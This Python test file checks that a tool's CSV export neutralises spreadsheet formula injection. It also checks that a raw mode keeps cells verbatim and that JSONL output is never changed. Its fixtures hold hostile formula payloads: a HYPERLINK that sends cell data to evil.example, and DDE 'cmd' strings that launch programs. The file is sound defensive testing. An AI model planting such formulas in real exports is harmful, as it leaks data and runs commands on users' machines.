"""Formula (CSV) injection: a CSV export neutralises every text cell that a spreadsheet would run as a formula
(a leading `=`, `+`, `-`, `@`, tab or carriage return gets a `'` in front, as OWASP recommends), leaves the
numbers the exporter writes alone, and writes everything verbatim with `raw_cells` (for programs). JSONL is
never touched. Rows are crafted in a real journal file; the property test feeds arbitrary text."""

from __future__ import annotations

import asyncio
import csv
import tempfile
from pathlib import Path

import orjson
from hypothesis import given, settings
from hypothesis import strategies as st

from export_helpers import add_batch, add_job, errored_line, plain_line, succeeded_line

from tests.builders import params as request_params
from tui.core.actions.export import (CSV_COLUMNS, FORMULA_TRIGGERS, ExportOptions, export_results,
                                     spreadsheet_cell)
from tui.core.journal.connection import Journal

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {"=": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+": "+1+cmd|' /C calc'!A0",
            "-": "-2+3+cmd|' /C calc'!A0", "@": "@SUM(1+1)*cmd|' /C calc'!A0", "\t": "\t=1+1", "\r": "\r=1+1"}
NUMBER_COLUMNS = {"input_tokens", "output_tokens", "cache_creation_input_tokens", "cache_read_input_tokens",
                  "cost_usd"}


def _read(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def _dicts(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_the_triggers_are_owasps():
    assert set(FORMULA_TRIGGERS) == set(TRIGGERS)


def test_spreadsheet_cell_decides_by_type_not_by_look():
    for t in TRIGGERS:
        assert spreadsheet_cell(f"{t}x") == f"'{t}x"
        assert spreadsheet_cell(f"{t}x", raw=True) == f"{t}x"
    assert spreadsheet_cell("plain, text") == "plain, text" and spreadsheet_cell("") == ""
    assert spreadsheet_cell("'=already quoted") == "'=already quoted"   # starts with a quote: nothing runs
    assert spreadsheet_cell(" =x") == " =x" and spreadsheet_cell("a=b") == "a=b"   # only the first character
    assert spreadsheet_cell(None) == ""
    # numbers we write are numbers, negative ones too; text that looks like a number is still text
    assert spreadsheet_cell(-5) == "-5" and spreadsheet_cell(12) == "12"
    assert spreadsheet_cell(-0.0125) == "-0.0125" and spreadsheet_cell(0.0125) == "0.0125"
    assert spreadsheet_cell("-5") == "'-5"
    # a float a spreadsheet would not read as a number is text
    assert spreadsheet_cell(float("-inf")) == "'-inf" and spreadsheet_cell(float("inf")) == "inf"
    assert spreadsheet_cell(True) == "True"


async def _hostile_batch(journal) -> None:
    """Every text column of the CSV starting with every trigger: custom_id, result type, error type and
    message, stop reason, response text, batch id, and (joined) params."""
    job = await add_job(journal, "hostile.jsonl")
    lines, params = [], {}
    for i, t in enumerate(TRIGGERS):
        payload = PAYLOADS[t]
        ok, bad, odd = f"{t}ok{i}", f"{t}bad{i}", f"{t}odd{i}"
        lines.append(succeeded_line(ok, payload, stop=f"{t}stop", tokens=(-5, -7, 0, 1)))
        lines.append(errored_line(bad, f"{t}etype", payload))
        lines.append(plain_line(odd, f"{t}kind"))
        params[ok] = request_params("x", max_tokens=5)
    await add_batch(journal, "=msgbatch_evil", job_id=job, created_at=1.0, lines=lines, params=params,
                    cost=-0.25)


async def test_every_text_cell_is_neutralised_and_numbers_are_kept(journal, tmp_path):
    await _hostile_batch(journal)
    out = await export_results(journal, "=msgbatch_evil", tmp_path / "safe.csv", ExportOptions(joined=True))
    assert out.rows == 3 * len(TRIGGERS)
    rows = _read(out.path)
    assert tuple(rows[0]) == CSV_COLUMNS + ("params",)
    for row in rows[1:]:
        for name, cell in zip(rows[0], row):
            if name in NUMBER_COLUMNS and cell:
                float(cell)            # a plain number, as written
                continue
            assert not cell.startswith(TRIGGERS), (name, cell)
    by_id = {r["custom_id"]: r for r in _dicts(out.path)}
    for i, t in enumerate(TRIGGERS):
        ok, bad, odd = by_id[f"'{t}ok{i}"], by_id[f"'{t}bad{i}"], by_id[f"'{t}odd{i}"]
        assert ok["response_text"] == "'" + PAYLOADS[t] and ok["stop_reason"] == f"'{t}stop"
        assert ok["batch_id"] == "'=msgbatch_evil" and ok["result_type"] == "succeeded"
        assert (ok["input_tokens"], ok["output_tokens"], ok["cost_usd"]) == ("-5", "-7", "-0.25")
        assert orjson.loads(ok["params"])["max_tokens"] == 5      # params JSON starts with "{": left alone
        assert bad["error_type"] == f"'{t}etype" and bad["error_message"] == "'" + PAYLOADS[t]
        assert odd["result_type"] == f"'{t}kind"


async def test_raw_cells_writes_every_cell_verbatim(journal, tmp_path):
    await _hostile_batch(journal)
    out = await export_results(journal, "=msgbatch_evil", tmp_path / "raw.csv", ExportOptions(raw_cells=True))
    by_id = {r["custom_id"]: r for r in _dicts(out.path)}
    for i, t in enumerate(TRIGGERS):
        ok, bad, odd = by_id[f"{t}ok{i}"], by_id[f"{t}bad{i}"], by_id[f"{t}odd{i}"]
        assert ok["response_text"] == PAYLOADS[t] and ok["stop_reason"] == f"{t}stop"
        assert ok["batch_id"] == "=msgbatch_evil" and ok["input_tokens"] == "-5"
        assert bad["error_type"] == f"{t}etype" and bad["error_message"] == PAYLOADS[t]
        assert odd["result_type"] == f"{t}kind"
    async with journal.db.execute("SELECT detail FROM events WHERE kind = 'exported'") as cur:
        assert orjson.loads((await cur.fetchone())[0])["raw_cells"] is True


async def test_jsonl_is_never_touched(journal, tmp_path):
    await _hostile_batch(journal)
    for raw in (False, True):
        out = await export_results(journal, "=msgbatch_evil", tmp_path / f"r{raw}.jsonl",
                                   ExportOptions(fmt="jsonl", raw_cells=raw))
        got = {orjson.loads(l)["custom_id"]: orjson.loads(l) for l in out.path.read_bytes().splitlines()}
        assert got["=ok0"]["result"]["message"]["content"][0]["text"] == PAYLOADS["="]
        assert got["@bad3"]["result"]["error"]["error"]["message"] == PAYLOADS["@"]


# -- the property: whatever the text, no cell of a CSV export starts a formula -----------------------------------

_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)   # any text orjson can encode
_TRIGGER_LED = st.tuples(st.sampled_from(TRIGGERS), _TEXT).map("".join)
_ANY_TEXT = st.one_of(_TEXT, _TRIGGER_LED)
_CUSTOM_ID = st.from_regex(r"[a-zA-Z0-9_-]{1,64}", fullmatch=True)
_ROW = st.tuples(_CUSTOM_ID, st.sampled_from(("succeeded", "errored", "odd")), _ANY_TEXT, _ANY_TEXT)


def _lines(rows) -> list[dict]:
    lines = []
    for cid, kind, text, other in rows:
        if kind == "succeeded":
            lines.append(succeeded_line(cid, text, stop=other))
        elif kind == "errored":
            lines.append(errored_line(cid, other, text))
        else:
            lines.append(plain_line(cid, text or "odd"))
    return lines


async def _export_both(lines: list[dict]) -> tuple[list[list[str]], list[list[str]]]:
    with tempfile.TemporaryDirectory() as folder:
        journal = await Journal.open(Path(folder) / "j.sqlite")
        try:
            job = await add_job(journal)
            await add_batch(journal, "msgbatch_prop", job_id=job, created_at=1.0, lines=lines)
            safe = await export_results(journal, "msgbatch_prop", Path(folder) / "safe.csv",
                                        ExportOptions(joined=True))
            raw = await export_results(journal, "msgbatch_prop", Path(folder) / "raw.csv",
                                       ExportOptions(joined=True, raw_cells=True))
            return _read(safe.path), _read(raw.path)
        finally:
            await journal.close()


@settings(max_examples=60, deadline=None)
@given(st.lists(_ROW, min_size=1, max_size=12, unique_by=lambda r: r[0]))
def test_no_cell_of_a_csv_export_starts_a_formula(rows):
    safe, raw = asyncio.run(_export_both(_lines(rows)))
    assert len(safe) == len(raw) == len(rows) + 1
    for safe_row, raw_row in zip(safe[1:], raw[1:]):
        assert len(safe_row) == len(raw_row) == len(CSV_COLUMNS) + 1
        for cell, verbatim in zip(safe_row, raw_row):
            assert not cell.startswith(TRIGGERS), cell
            # the only change is one leading quote, and only where the cell would start a formula
            assert cell == ("'" + verbatim if verbatim.startswith(TRIGGERS) else verbatim)
    texts = {cid: (text, other) for cid, _, text, other in rows}
    raw_by_id = {row[0]: dict(zip(raw[0], row)) for row in raw[1:]}
    for cid, kind, text, other in rows:
        got = raw_by_id[cid]
        if kind == "succeeded":
            assert (got["response_text"], got["stop_reason"]) == texts[cid]
        elif kind == "errored":
            assert (got["error_message"], got["error_type"]) == texts[cid]
